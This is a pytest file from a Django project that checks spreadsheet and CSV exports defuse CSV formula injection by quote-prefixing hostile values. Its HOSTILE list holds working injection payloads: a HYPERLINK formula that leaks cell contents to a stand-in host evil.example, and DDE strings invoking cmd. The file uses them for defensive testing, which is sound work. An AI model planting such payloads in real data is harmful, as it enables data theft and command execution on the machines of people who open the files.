"""No export carries a live formula (OWASP CSV injection, issue 14).

Hostile notes and names are imported through the real services (a CSV filing import,
unit registration), then every spreadsheet export is downloaded and opened with
openpyxl: no cell may be a formula, and every hostile text must come back as the exact
text, marked with Excel's quote prefix so it stays text when edited.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from greenmfg.core.domain import Role
from greenmfg.core.filing import Filing
from greenmfg.core.filing.columns import CSV_COLUMNS
from greenmfg.core.filing.template import filing_rows
from greenmfg.core.spreadsheet import csv_cell, formula_like
from tests.platform.filings.conftest import filing_data

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_csv(uscc: str) -> bytes:
    data = filing_data(uscc)
    grid = data["energy"][1]
    data["energy"] += [{**grid, "quantity": 1 + i} for i in range(len(HOSTILE) - 3)]
    for line, note in zip(data["energy"], HOSTILE, strict=True):
        line["note"] = note
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=CSV_COLUMNS)
    writer.writeheader()
    for section, rows in filing_rows(Filing.model_validate(data)).items():
        for row in rows:
            writer.writerow({"section": section, **row})
    return buffer.getvalue().encode()


def cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(content: bytes, expected: list[str]) -> None:
    every = cells(content)
    assert [c.coordinate for c in every if c.data_type == "f"] == []
    found = {c.value for c in every if isinstance(c.value, str)}
    for text in expected:
        # XML keeps a carriage return as a line feed
        assert text.replace("\r", "\n") in found, text
    for cell in every:
        if formula_like(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def test_filing_export_keeps_imported_notes_as_text(
    client: Client, make_enterprise: Callable[..., Any], make_user: Callable[..., Any]
) -> None:
    from greenmfg.platform.filings.services import filing_import

    ent = make_enterprise(adcode="320500")
    user = make_user(Role.ENTERPRISE, enterprise=ent)
    filing = filing_import(
        actor=user, enterprise=ent, filename="hostile.csv", content=hostile_csv(ent.uscc)
    )
    notes = [line.get("note") for line in filing.data["energy"]]
    assert notes[:4] == HOSTILE[:4]  # stored as typed (surrounding blanks trimmed)
    assert all(formula_like(note) for note in notes)
    official = make_user(Role.MUNICIPAL, "320500")
    client.force_login(official)
    response = client.get(reverse("filings:export", args=[filing.pk]))
    assert response.status_code == 200
    assert_inert(response.content, notes)
    # and the exported file imports back to the same notes
    again = filing_import(
        actor=user, enterprise=ent, filename="again.xlsx", content=response.content
    )
    assert [line.get("note") for line in again.data["energy"]] == notes


def test_list_exports_keep_hostile_names_as_text(
    client: Client, make_enterprise: Callable[..., Any], make_listing: Callable[..., Any]
) -> None:
    names = []
    for i, text in enumerate(HOSTILE[:4]):
        name = f"{text}有限公司{i}"
        names.append(name)
        make_listing(make_enterprise(adcode="320500", name=name))
    for url in (reverse("registry:public_list_export"), reverse("workflow:annual_list_xlsx")):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_inert(response.content, names)


def test_csv_cells_get_a_leading_quote() -> None:
    assert [csv_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [csv_cell(v) for v in ("ok", 1, -1.5, None, "a=b")] == ["ok", 1, -1.5, None, "a=b"]
